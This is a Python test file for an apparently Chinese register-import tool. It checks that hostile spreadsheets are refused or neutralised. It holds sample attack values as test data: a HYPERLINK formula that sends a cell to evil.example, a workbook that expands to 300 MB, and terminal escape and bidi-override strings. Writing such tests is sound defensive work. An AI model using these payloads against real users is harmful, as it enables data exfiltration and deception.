"""Hostile and huge register files (issue 17 items 4, 5, 10, 11, 12, 15): a sheet of 200,000
rows each with one cell in column XFD and a workbook whose one cell expands to 300 MB are
refused in seconds; rows, columns and cell sizes are bounded by caseflow.toml [import];
formulas never reach the rejects file as formulas; two columns with one heading are named
by position; a child born after the register's date is rejected (and, when configured, a
child outside the compulsory ages, by the rule of `case open`); scratch folders of killed
imports are cleared; the registers are named in Chinese."""

from __future__ import annotations

import csv
import fcntl
import io
import os
import time
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from caseflow import i18n
from caseflow.errors import InvalidInput, WorkspaceError
from caseflow.exports import neutralise
from caseflow.roster import (
    Checked,
    Checker,
    ImportLimits,
    parse_mapping,
    reference_date,
    resolve_source,
)
from caseflow.services.cases import Checks, _checked_age
from caseflow.services.context import Context, open_context
from caseflow.services.roster import (
    SCRATCH_LOCK,
    STALE_AFTER_SECONDS,
    import_limits,
    import_roster,
    remove_stale_scratch,
)
from caseflow.services.snapshots import current_imports, snapshot_folder
from caseflow.workspace import CONFIG_NAME
from tests.conftest import CliInvoker, database_rows, snapshot_rows
from tests.test_roster_import import SAMPLES, import_json, person, rejects_of, write

TODAY = date(2026, 11, 20)
HOUSEHOLD = SAMPLES["household"][0]


@pytest.fixture
def reader(workspace: Path) -> Iterator[Context]:
    """A context on the CLI's workspace, to look at what the CLI did."""
    context = open_context(workspace)
    yield context
    context.engine.dispose()


@pytest.fixture
def checker(tmp_path: Path) -> Iterator[Checker]:
    with Checker(tmp_path / "scratch") as opened:
        yield opened


def check(
    checker: Checker, source: str, path: Path, *, limits: ImportLimits | None = None, **more: Any
) -> Checked:
    return checker.check(source, path, file_name=path.name, today=TODAY, limits=limits, **more)


def household_row(serial: int, name: str = "张小华", born: date = date(2013, 3, 5)) -> list[Any]:
    sex = "男" if serial % 2 else "女"
    return [name, person(serial, born), sex, born.isoformat(), "天堂镇", "天堂村", "", ""]


def xlsx_with_sheet(path: Path, sheet_xml: bytes | Iterator[bytes], *, level: int = 6) -> Path:
    """A real workbook (openpyxl's parts) whose first sheet is ``sheet_xml``, streamed."""
    template = io.BytesIO()
    book = Workbook()
    book.save(template)
    with (
        zipfile.ZipFile(template) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target,
    ):
        for member in source.infolist():
            if member.filename == "xl/worksheets/sheet1.xml":
                with target.open(member.filename, "w", force_zip64=True) as stream:
                    for block in [sheet_xml] if isinstance(sheet_xml, bytes) else sheet_xml:
                        stream.write(block)
            else:
                target.writestr(member, source.read(member.filename))
    return path


SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
    b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_END = b"</sheetData></worksheet>"


def heading_row() -> bytes:
    cells = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{text}</t></is></c>'
        for i, text in enumerate(HOUSEHOLD)
    )
    return f'<row r="1">{cells}</row>'.encode()


# ---------------------------------------------------------------------------------------
# Formula injection (item 5)

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&B3,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(formula: str) -> None:
    assert neutralise(formula) == "'" + formula
    assert neutralise("张小华") == "张小华"


def test_formulas_in_a_register_reach_the_rejects_file_as_text(
    cli: CliInvoker, tmp_path: Path
) -> None:
    rows = [HOUSEHOLD, household_row(1)]
    for n, formula in enumerate(FORMULAS, start=2):
        row = household_row(n)
        row[2] = formula  # not a sex: the row is rejected, the value shown as written
        rows.append(row)
    summary = import_json(cli, "household", str(write(tmp_path / "hukou.csv", rows)))

    written = rejects_of(summary["rejects_file"])
    assert len(written) == len(FORMULAS)
    for problem in written:
        for cell in problem.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), problem


# ---------------------------------------------------------------------------------------
# Bounded inputs (item 10)


def test_a_sheet_of_200000_rows_with_a_cell_in_column_xfd_is_refused_in_seconds(
    checker: Checker, tmp_path: Path
) -> None:
    rows = (
        f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
        for n in range(2, 200_002)
    )
    path = xlsx_with_sheet(
        tmp_path / "wide.xlsx", iter([SHEET_START, heading_row(), *rows, SHEET_END])
    )
    assert path.stat().st_size < 2_000_000

    started = time.monotonic()
    with pytest.raises(InvalidInput, match="row 2 has a value in column 16384"):
        check(checker, "household", path)
    assert time.monotonic() - started < 5


def test_a_workbook_whose_one_cell_expands_to_300_mb_is_refused_in_seconds(
    checker: Checker, tmp_path: Path
) -> None:
    def sheet() -> Iterator[bytes]:
        yield SHEET_START + heading_row() + b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
        block = b"A" * (1 << 20)
        for _block in range(300):
            yield block
        yield b"</t></is></c></row>" + SHEET_END

    path = xlsx_with_sheet(tmp_path / "bomb.xlsx", sheet(), level=9)
    assert path.stat().st_size < 400_000  # the file: 310 KB

    started = time.monotonic()
    with pytest.raises(InvalidInput, match=r"longer than a spreadsheet cell can hold \(32767"):
        check(checker, "household", path)
    assert time.monotonic() - started < 5


def test_a_workbook_expanding_beyond_the_configured_size_is_refused(
    checker: Checker, tmp_path: Path
) -> None:
    rows = [HOUSEHOLD] + [household_row(n) for n in range(1, 200)]
    path = write(tmp_path / "hukou.xlsx", rows, "xlsx")
    limits = ImportLimits(max_xlsx_expanded_mb=1)
    padding = xlsx_with_sheet(
        tmp_path / "big.xlsx", SHEET_START + heading_row() + b" " * (2 << 20) + SHEET_END
    )

    assert check(checker, "household", path, limits=limits).rows_total == 199
    with pytest.raises(InvalidInput, match=r"expands to 2 MB, more than the 1 MB"):
        check(checker, "household", padding, limits=limits)


@pytest.mark.parametrize("fmt", ["utf-8", "xlsx"])
def test_more_rows_than_max_rows_are_refused(checker: Checker, tmp_path: Path, fmt: str) -> None:
    rows = [HOUSEHOLD] + [household_row(n) for n in range(1, 6)]
    path = write(tmp_path / "hukou.csv", rows, fmt)

    assert check(checker, "household", path, limits=ImportLimits(max_rows=5)).rows_total == 5
    with pytest.raises(InvalidInput, match="has more than 4 rows"):
        check(checker, "household", path, limits=ImportLimits(max_rows=4))


@pytest.mark.parametrize("fmt", ["utf-8", "xlsx"])
def test_a_value_longer_than_max_cell_chars_is_refused_naming_its_row_and_column(
    checker: Checker, tmp_path: Path, fmt: str
) -> None:
    rows = [HOUSEHOLD, household_row(1), household_row(2)]
    rows[2][5] = "天堂村" * 400  # 1,200 characters
    path = write(tmp_path / "hukou.csv", rows, fmt)

    with pytest.raises(InvalidInput, match="row 3, column 村 holds a value longer than 1000"):
        check(checker, "household", path)


def test_a_csv_field_beyond_what_csv_reads_is_refused_with_its_line(
    checker: Checker, tmp_path: Path
) -> None:
    path = tmp_path / "hukou.csv"
    lines = [",".join(HOUSEHOLD), '"' + "张" * 200_000 + '",' + ",".join(household_row(1)[1:])]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    with pytest.raises(InvalidInput, match=r"line 2 cannot be read as CSV|row 2, column 姓名"):
        check(checker, "household", path)


def test_a_name_longer_than_50_characters_rejects_its_row(checker: Checker, tmp_path: Path) -> None:
    rows = [HOUSEHOLD, household_row(1, name="张" * 50), household_row(2, name="李" * 51)]
    checked = check(checker, "household", write(tmp_path / "hukou.csv", rows))

    assert (checked.rows_good, checked.rows_rejected) == (1, 1)
    (problem,) = checked.problems
    assert (problem.line, problem.column) == (3, "姓名")
    assert problem.reason == "姓名 (name) is longer than 50 characters"


def test_the_limits_come_from_caseflow_toml(ctx: Context) -> None:
    config = ctx.workspace.root / CONFIG_NAME
    assert import_limits(ctx) == ImportLimits()
    config.write_text(
        config.read_text(encoding="utf-8") + "\n[import]\nmax_rows = 10\nmax_cell_chars = 80\n",
        encoding="utf-8",
    )
    assert import_limits(ctx) == ImportLimits(max_rows=10, max_cell_chars=80)
    config.write_text(config.read_text(encoding="utf-8") + "max_colums = 3\n", encoding="utf-8")
    with pytest.raises(WorkspaceError, match="no setting 'max_colums'"):
        import_limits(ctx)


def test_a_refused_file_leaves_the_database_as_it_was(ctx: Context, tmp_path: Path) -> None:
    good = write(tmp_path / "hukou.csv", [HOUSEHOLD, household_row(1)])
    import_roster(ctx, "household", good)
    before = database_rows(ctx)
    rows = [HOUSEHOLD, household_row(1), household_row(2)]
    rows[2][0] = "张" * 2_000
    with pytest.raises(InvalidInput):
        import_roster(ctx, "户籍", write(tmp_path / "long.csv", rows))
    assert database_rows(ctx) == before


def test_the_help_states_the_default_limits() -> None:
    from caseflow.cli.roster import IMPORT_HELP

    defaults = ImportLimits()
    for name in ("max_rows", "max_columns", "max_cell_chars", "max_xlsx_expanded_mb"):
        assert f"{name} {getattr(defaults, name)}" in IMPORT_HELP
    assert "at most 50" in IMPORT_HELP


# ---------------------------------------------------------------------------------------
# Duplicate headings (item 11)


@pytest.mark.parametrize("fmt", ["utf-8", "xlsx"])
def test_two_columns_with_one_heading_are_refused_naming_their_positions(
    checker: Checker, tmp_path: Path, fmt: str
) -> None:
    rows = [[*HOUSEHOLD[:6], "姓名"], [*household_row(1)[:6], "张大山"]]
    path = write(tmp_path / "hukou.csv", rows, fmt)

    with pytest.raises(InvalidInput) as refused:
        check(checker, "household", path, mapping=parse_mapping("household", ["姓名=name"]))
    assert refused.value.message.startswith("column 1, column 7 (headed “姓名”) all look like")
    assert "--map 7=name" in refused.value.message
    with pytest.raises(InvalidInput, match="column 1, column 7"):
        check(checker, "household", path)

    i18n.set_language("zh")
    try:
        with pytest.raises(InvalidInput, match="第1列、第7列"):
            check(checker, "household", path)
    finally:
        i18n.set_language(None)


def test_map_names_a_column_by_its_position(
    cli: CliInvoker, reader: Context, tmp_path: Path
) -> None:
    rows = [[*HOUSEHOLD[:6], "姓名"], [*household_row(1)[:6], "张大山"]]
    path = write(tmp_path / "hukou.csv", rows)

    refused = cli("roster", "import", "household", str(path))
    assert refused.exit_code == 2 and "--map 7=name" in refused.stderr
    assert import_json(cli, "household", str(path), "--map", "7=name")["imported"] == 1
    assert [row.name for row in snapshot_rows(reader, "household")] == ["张大山"]
    assert import_json(cli, "household", str(path), "--map", "第1列=name")["imported"] == 1
    assert [row.name for row in snapshot_rows(reader, "household")] == ["张小华"]


# ---------------------------------------------------------------------------------------
# Plausibility (item 12)


def test_a_child_born_after_the_registers_date_is_rejected(
    checker: Checker, tmp_path: Path
) -> None:
    rows = [HOUSEHOLD, household_row(1), household_row(2, born=date(2026, 10, 2))]
    checked = check(
        checker, "household", write(tmp_path / "hukou.csv", rows), as_of=date(2026, 9, 15)
    )

    (problem,) = checked.problems
    assert problem.line == 3 and problem.column == "身份证号"
    assert problem.reason == (
        "born 2026-10-02, after 2026-09-15, the day the register was extracted: check the "
        "resident ID"
    )


BIRTHS = [
    date(2020, 9, 1),  # 6 on the reference date 2026-09-01: inside
    date(2020, 9, 2),  # 5
    date(2010, 9, 2),  # 15
    date(2010, 9, 1),  # 16
    date(2012, 2, 29),
    date(2004, 5, 1),  # an adult
]


@pytest.mark.parametrize("source", ["household", "student"])
def test_with_the_age_band_on_rows_outside_it_are_rejected_by_the_rule_of_case_open(
    checker: Checker, tmp_path: Path, source: str
) -> None:
    as_of = date(2026, 11, 1)
    rows = [SAMPLES[source][0]]
    for serial, born in enumerate(BIRTHS, start=1):
        number = person(serial, born)
        if source == "household":
            rows.append(["孩子", number, "", "", "天堂镇", "天堂村", "", ""])
        else:
            rows.append(["孩子", number, "G" + number, "天堂小学", "一年级", "1班", "在读"])
    path = write(tmp_path / f"{source}.csv", rows)
    limits = ImportLimits(reject_outside_age_band=True)

    checked = check(checker, source, path, as_of=as_of, limits=limits)

    rejected = {problem.line: problem.reason for problem in checked.problems}
    for line, born in enumerate(BIRTHS, start=2):
        try:
            _checked_age(born, as_of, Checks())
            refused_by_case_open = False
        except InvalidInput:
            refused_by_case_open = True
        assert (line in rejected) == refused_by_case_open, born
    assert rejected[3] == (
        "aged 5 on 2026-09-01 (the school year's reference date), outside the "
        "compulsory-education ages 6 to 15"
    )
    assert reference_date(as_of) == date(2026, 9, 1)
    # Off (the default): a register lists children of every age; none is rejected for it.
    assert check(checker, source, path, as_of=as_of).rows_rejected == 0


# ---------------------------------------------------------------------------------------
# Leftovers (item 15)


def test_the_next_import_removes_the_scratch_folders_killed_imports_left(
    ctx: Context, tmp_path: Path
) -> None:
    folder = snapshot_folder(ctx)
    folder.mkdir(parents=True, exist_ok=True)
    old = time.time() - STALE_AFTER_SECONDS - 10
    killed = folder / ".import-killed"
    (killed / "spill").mkdir(parents=True)
    (killed / "half.parquet").write_bytes(b"PAR1")
    running = folder / ".import-running"
    running.mkdir()
    young = folder / ".import-young"
    young.mkdir()
    lock = os.open(running / SCRATCH_LOCK, os.O_CREAT | os.O_RDWR)
    fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)  # an import running in it
    for path in (killed, running):
        os.utime(path, (old, old))
    try:
        summary = import_roster(
            ctx, "household", write(tmp_path / "hukou.csv", [HOUSEHOLD, household_row(1)])
        )
        assert summary.stale_removed == 1
        assert not killed.exists() and running.exists() and young.exists()
        assert remove_stale_scratch(folder) == 0
    finally:
        os.close(lock)
    assert remove_stale_scratch(folder) == 1  # its import has ended
    assert remove_stale_scratch(folder, now=time.time() + STALE_AFTER_SECONDS + 1) == 1
    assert sorted(p.name for p in folder.glob(".import-*")) == []


def test_the_import_says_it_removed_leftovers(
    cli: CliInvoker, workspace: Path, tmp_path: Path
) -> None:
    leftover = workspace / "rosters" / ".import-killed"
    leftover.mkdir(parents=True)
    old = time.time() - STALE_AFTER_SECONDS - 10
    os.utime(leftover, (old, old))

    result = cli(
        "--lang",
        "zh",
        "roster",
        "import",
        "户籍",
        str(write(tmp_path / "h.csv", [HOUSEHOLD, household_row(1)])),
    )

    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[0] == "已清理中断的导入在 rosters/ 中留下的临时文件夹 1 个。"
    assert not leftover.exists()


# ---------------------------------------------------------------------------------------
# Registers in Chinese (issue 16 items 1 and 2) and control characters (item 4)


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("户籍", "household"),
        ("学籍", "student"),
        ("扶贫", "poverty"),
        ("残疾人", "disability"),
        ("实际在校生", "attendance"),
        ("Student", "student"),
        (" 学籍 ", "student"),
    ],
)
def test_a_register_is_named_in_chinese_or_by_its_code(name: str, source: str) -> None:
    assert resolve_source(name) == source


def test_roster_import_takes_the_chinese_name_and_refuses_an_unknown_one_with_the_choices(
    cli: CliInvoker, reader: Context, tmp_path: Path
) -> None:
    path = write(tmp_path / "学籍.csv", SAMPLES["student"])

    imported = cli("--lang", "zh", "roster", "import", "学籍", str(path))
    assert imported.exit_code == 0, imported.stderr
    assert "作为学籍登记册" in imported.stdout
    assert current_imports(reader)["student"].rows_imported == 3

    unknown = cli("--lang", "zh", "roster", "import", "学藉", str(path))
    assert unknown.exit_code == 2
    assert "没有名为 '学藉' 的登记册" in unknown.stderr
    assert (
        "户籍（household）、学籍（student）、扶贫（poverty）、残疾人（disability）、"
        "实际在校生（attendance）" in unknown.stderr
    )
    history = cli("--lang", "zh", "roster", "history", "学籍")
    assert history.exit_code == 0 and "学籍" in history.stdout


def test_the_rejected_row_listing_shows_control_characters_escaped(
    cli: CliInvoker, tmp_path: Path
) -> None:
    hostile = "\x1b]0;owned\x07\x1b[2J张\r小华\u202e"
    rows = [HOUSEHOLD, household_row(1), household_row(2, name=hostile)]
    rows[2][2] = hostile  # not a sex: the row is rejected and its value listed

    result = cli("roster", "import", "household", str(write(tmp_path / "hukou.csv", rows)))

    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    assert "\u202e" not in result.stdout
    assert "\\x1b]0;owned\\x07\\x1b[2J张\\x0d小华\\u202e" in result.stdout


def test_rejects_are_csv_a_spreadsheet_reads_back_as_written(tmp_path: Path) -> None:
    from caseflow.roster import Problem, write_rejects

    path = tmp_path / "rejects.csv"
    write_rejects(path, [Problem(2, "=姓名", "@张", "+原因")])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle))[1] == ["2", "'=姓名", "'@张", "'+原因"]


def test_the_documented_import_settings_are_the_defaults() -> None:
    import re
    import tomllib

    text = (Path(__file__).resolve().parent.parent / "docs" / "registers.md").read_text("utf-8")
    block = re.search(r"```toml\n(.*?)```", text, re.S)
    assert block is not None
    section = tomllib.loads(block.group(1))["import"]
    assert ImportLimits.from_config(section, "docs/registers.md") == ImportLimits()
    assert set(section) == set(ImportLimits.__dataclass_fields__)


def test_a_sheet_whose_xml_breaks_off_is_refused_without_a_traceback(
    checker: Checker, tmp_path: Path
) -> None:
    rows = b"".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>张{n}</t></is></c></row>'.encode()
        for n in range(2, 50)
    )
    path = xlsx_with_sheet(tmp_path / "cut.xlsx", SHEET_START + heading_row() + rows + b"<row r=")

    with pytest.raises(InvalidInput, match="cannot be opened as an XLSX workbook"):
        check(checker, "household", path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_comparisons_findings_file_holds_formulas_and_control_characters_as_text(
    tmp_path: Path, suffix: str
) -> None:
    from openpyxl import load_workbook

    from caseflow.roster import Comparison, Suspect
    from caseflow.services.compare import write_table

    suspect = Suspect(person(1), '=HYPERLINK("http://x")\x1b[2J', ["household_vs_student"])
    suspect.township, suspect.village = "@SUM(1)", "\t-1"
    comparison = Comparison(date(2026, 9, 1), (6, 15), [suspect], {})
    path = tmp_path / f"findings{suffix}"

    assert write_table(path, comparison, reveal=False) == 1

    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            row = list(csv.reader(handle))[1]
    else:
        sheet = load_workbook(path).worksheets[0]
        row = [cell or "" for cell in list(sheet.iter_rows(values_only=True))[2]]
    name, township, village = row[1], row[3], row[4]
    assert name.startswith("'=HYPERLINK") and township == "'@SUM(1)" and village == "'\t-1"
    if suffix == ".xlsx":
        assert "\x1b" not in name


def test_the_import_help_states_the_limits_in_force_by_default() -> None:
    import dataclasses
    import re

    from typer.testing import CliRunner

    from caseflow.cli import app
    from caseflow.roster import NAME_MAX_CHARS

    defaults = {
        field.name: field.default
        for field in dataclasses.fields(ImportLimits)
        if field.name.startswith("max_")
    }
    for language, names in (("en", f"Names: at most {NAME_MAX_CHARS}"), ("zh", "姓名最长 50 个字")):
        shown = CliRunner().invoke(app, ["--lang", language, "roster", "import", "-h"]).output
        stated = {name: int(value) for name, value in re.findall(r"(max_\w+) (\d+)", shown)}
        assert stated == defaults, language
        assert names in " ".join(shown.split())
    assert NAME_MAX_CHARS == 50
